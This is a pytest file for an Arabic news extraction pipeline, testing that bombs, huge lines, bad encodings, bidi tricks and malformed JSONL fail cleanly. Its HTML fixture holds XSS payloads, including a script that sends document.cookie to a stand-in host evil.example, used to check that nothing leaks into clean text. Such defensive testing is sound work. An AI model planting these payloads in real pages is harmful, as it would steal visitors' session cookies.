"""Hostile and broken inputs: a clear per-record error or a correct result, within bounded memory.

Bombs and huge lines run in a child process limited to 1.5 GiB of address space
(`hostile_inputs.run_bounded`); the rest are small enough to run here.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from tests.reliability.hostile_inputs import ARTICLE, run_bounded

from rasd import extract
from rasd.errors import RecordError
from rasd.model import Document
from rasd.pipeline import Pipeline, RunStats, process

BOUNDED_SECONDS = 240  # each case takes 5-25 s on one core; generous for a loaded CI machine
RSS_CEILING_MB = 800  # the pipeline itself needs about 250 MB


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return Pipeline.build()


def _run(paths: list[str], pipeline: Pipeline) -> tuple[list[Document], list[RecordError]]:
    errors: list[RecordError] = []
    docs = list(process(paths, pipeline, on_error=errors.append, stats=RunStats()))
    return docs, errors


def _bounded(case: str, tmp_path: Path) -> dict[str, Any]:
    summary = run_bounded(case, tmp_path, BOUNDED_SECONDS)
    assert summary["peak_rss_mb"] < RSS_CEILING_MB
    return summary


def _ids(summary: dict[str, Any]) -> list[str]:
    return [doc["id"] for doc in summary["processed"]]


def _reasons(summary: dict[str, Any]) -> list[tuple[str, str]]:
    """(file name with its #record part, reason) of each error."""
    named = []
    for error in summary["errors"]:
        path, mark, record = error["record"].partition("#")
        named.append((Path(path).name + mark + record, error["reason"]))
    return named


def test_gzip_bomb_inside_a_warc_is_one_too_large_record_and_the_pages_around_it_survive(tmp_path: Path) -> None:
    summary = _bounded("warc-gzip-bomb", tmp_path)
    assert _ids(summary) == ["https://example.org/one", "https://example.org/two"]
    assert _reasons(summary) == [("crawl.warc.gz#https://example.org/bomb", "too-large")]


def test_gzip_content_encoded_bomb_in_a_warc_response_is_cut_at_the_record_limit(tmp_path: Path) -> None:
    summary = _bounded("warc-content-encoding-bomb", tmp_path)
    assert _ids(summary) == ["https://example.org/after"]
    assert _reasons(summary) == [("crawl.warc#https://example.org/encoded", "too-large")]


def test_gzipped_text_bomb_is_too_large(tmp_path: Path) -> None:
    assert _reasons(_bounded("text-gzip-bomb", tmp_path)) == [("article.txt.gz", "too-large")]


def test_a_100_mb_line_of_text_is_too_large(tmp_path: Path) -> None:
    assert _reasons(_bounded("long-line-text", tmp_path)) == [("one-line.txt", "too-large")]


def test_a_100_mb_jsonl_line_is_skipped_and_the_lines_around_it_are_read(tmp_path: Path) -> None:
    summary = _bounded("long-line-jsonl", tmp_path)
    assert _ids(summary) == ["before", "after"]
    assert _reasons(summary) == [("wire.jsonl#line 2", "too-large")]


def test_100k_nested_elements_end_in_a_clear_error_or_the_article(tmp_path: Path) -> None:
    summary = _bounded("nested-html", tmp_path)
    # libxml2 stops building the tree 256 levels down, so the paragraph is out of reach:
    # a clear `no-text` per page, or the article when a parser gets to it; never a crash.
    for doc in summary["processed"]:
        assert "طائرات حربية" in doc["text"]
    assert len(summary["processed"]) + len(summary["errors"]) == 2
    assert {reason for _, reason in _reasons(summary)} <= {"no-text"}


HOSTILE_PAGE = """<html><head><title>احتجاجات في البصرة</title>
<style>body { background: url("javascript:alert(1)") } .evil::after { content: "STYLE-LEAK" }</style>
<script>document.write("SCRIPT-LEAK"); fetch("https://evil.example/?c=" + document.cookie)</script>
<script type="application/ld+json">{"@type": "NewsArticle", "headline": "JSONLD-LEAK"}</script>
</head><body onload="alert('ONLOAD-LEAK')">
<iframe src="javascript:alert('IFRAME-LEAK')">IFRAME-LEAK</iframe>
<article>
<p onclick="alert('CLICK-LEAK')">خرج مئات المحتجين في مدينة البصرة جنوبي العراق للمطالبة بتحسين خدمات الكهرباء والماء،
وأغلقوا طرقاً رئيسية بالإطارات المحترقة، بحسب ما أفاد مراسلون محليون.</p>
<p>وقال أحد المحتجين إن <a href="javascript:alert('HREF-LEAK')">الحكومة المحلية</a> لم تفِ بوعودها
<img src="x" onerror="alert('ONERROR-LEAK')">منذ الصيف الماضي.</p>
<noscript>NOSCRIPT-LEAK</noscript><svg><script>alert('SVG-LEAK')</script></svg>
<object data="javascript:alert('OBJECT-LEAK')">OBJECT-LEAK</object>
</article></body></html>
"""


def test_nothing_of_scripts_styles_frames_or_handlers_reaches_the_clean_text(
    tmp_path: Path, pipeline: Pipeline
) -> None:
    page = tmp_path / "basra.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    docs, errors = _run([str(page)], pipeline)
    assert not errors
    (doc,) = docs
    assert "المحتجين في مدينة البصرة" in doc.text
    for text in (doc.text, doc.raw_text, doc.title or ""):
        assert "LEAK" not in text
        assert "javascript" not in text.lower()
        assert "alert(" not in text
    assert any(event.type == "PROTEST" for event in doc.events)


def test_invalid_utf8_mixed_with_windows_1256_decodes_or_fails_clearly(tmp_path: Path, pipeline: Pipeline) -> None:
    cp1256 = ARTICLE.encode("cp1256")
    mixed = tmp_path / "mixed.txt"
    # a Windows-1256 article with a UTF-8 line pasted in and stray bytes that are valid in neither
    pasted = "قال شاهد عيان".encode() + b"\xff\xfe\x81\n"
    mixed.write_bytes(b"\xe4\xc8\xc3 \xda\xc7\xcc\xe1\n\n" + cp1256 + b"\n" + pasted)
    broken = tmp_path / "broken-utf8.txt"
    broken.write_bytes(ARTICLE.encode()[:101] + b"\xc3\x28\xa0\xa1" + ARTICLE.encode()[101:])
    docs, errors = _run([str(mixed), str(broken)], pipeline)
    assert len(docs) + len(errors) == 2
    assert all(error.reason == "undecodable" for error in errors)
    for doc in docs:
        assert "طائرات حربية" in doc.text or "ريف إدلب" in doc.text


@pytest.mark.parametrize(
    ("disguised", "name"),
    [("بايـ\u200cدن", "Joe Biden"), ("باي\u200dدن", "Joe Biden"), ("بايد\u200fن", "Joe Biden")],
)
def test_actor_with_joiners_and_marks_inside_the_name_is_still_recognised(
    disguised: str, name: str, pipeline: Pipeline
) -> None:
    doc = extract(f"قال الرئيس الأمريكي جو {disguised} إن قوات بلاده قصفت مواقع في سوريا أمس.", pipeline=pipeline)
    actor = next(actor for actor in doc.actors if actor.name == name)
    assert actor.span is not None and disguised in actor.span.of(doc.text)


@pytest.mark.parametrize("disguised", ["د\u200fمشق", "دمـشق", "د\u2067مشق\u2069", "\u202bدمشق\u202c", "دم\u200bشق"])
def test_place_with_bidi_controls_inside_the_name_is_still_recognised(disguised: str, pipeline: Pipeline) -> None:
    doc = extract(f"قصفت طائرات حربية مواقع قرب {disguised} فجر اليوم، ما أسفر عن مقتل ثلاثة أشخاص.", pipeline=pipeline)
    (event,) = doc.events
    assert event.location is not None and event.location.name == "Damascus"


WRONG_TYPES = [
    {"id": ["a"], "text": ARTICLE},
    {"id": True, "text": ARTICLE},
    {"id": 1.5, "text": ARTICLE},
    {"text": 42},
    {"text": {"ar": ARTICLE}},
    {"html": ["<p>", ARTICLE]},
    {"text": ARTICLE, "title": {"t": 1}},
    {"text": ARTICLE, "published": 20240401},
    {"text": ARTICLE, "url": ["https://example.org"]},
    {"text": None, "html": None},
    {"text": "   "},
]


def test_jsonl_fields_of_the_wrong_type_are_per_line_errors_and_good_lines_go_on(
    tmp_path: Path, pipeline: Pipeline
) -> None:
    lines = [json.dumps(record, ensure_ascii=False) for record in WRONG_TYPES]
    lines += ["[1, 2, 3]", '"just a string"', "null", "{", '{"text": "\\ud800"}', "1e999", '{"text": NaN}']
    good = json.dumps({"id": "good", "text": ARTICLE, "published": "2024-04-01"}, ensure_ascii=False)
    path = tmp_path / "wire.jsonl"
    path.write_text("\n".join([good, *lines, good.replace('"good"', '"good-2"')]) + "\n", encoding="utf-8")
    docs, errors = _run([str(path)], pipeline)
    assert [doc.id for doc in docs] == ["good", "good-2"]
    # every broken line is named with its number; none stops the file
    lines_reported = sorted(int(error.record.rsplit(" ", 1)[-1]) for error in errors)
    assert lines_reported == list(range(2, len(lines) + 2))
    assert {error.reason for error in errors} <= {
        "wrong-type",
        "no-text",
        "empty",
        "not-object",
        "bad-json",
        "undecodable",
        "internal-error",
    }
    assert "internal-error" not in {error.reason for error in errors}
